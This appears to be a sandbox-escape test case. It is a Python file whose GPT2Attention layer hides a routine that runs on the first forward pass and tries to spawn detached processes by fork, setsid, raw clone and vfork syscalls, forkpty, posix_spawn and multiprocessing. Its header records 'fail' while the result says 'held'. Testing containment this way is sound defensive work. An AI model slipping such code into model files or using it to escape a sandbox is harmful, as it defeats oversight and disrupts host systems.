# Tries: a fork bomb (of eight processes) that leaves its session.
# Holds: No process is started, none survives, none outside is disturbed.
# Verdict: fail
# Says: held
import ctypes
import multiprocessing
import os
import time

from max.experimental.nn import Linear, Module

def once():
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            time.sleep(4)
            os._exit(0)
    return "forked"

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(*arguments):
    return checked(libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]))


def attempt(what, deed):
    try:
        print("BROKE", what, repr(deed())[:200])
    except BaseException as error:
        print("held", what, type(error).__name__)


DONE = []


def attack():
    attempt("fork", once)
    attempt("below", lambda: checked(libc.fork()) or os._exit(0))
    attempt("vfork", lambda: syscall(58))
    attempt("clone", lambda: syscall(56, 17, 0, 0, 0, 0) or os._exit(0))
    attempt("clone3", lambda: syscall(435, ctypes.create_string_buffer(88), 88) or os._exit(0))
    attempt("forkpty", lambda: os.forkpty()[0] or os._exit(0))
    attempt("spawn", lambda: os.posix_spawn("/bin/sleep", ["sleep", "5"], {}))
    attempt("multiprocessing", lambda: multiprocessing.Process(target=print).start())


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
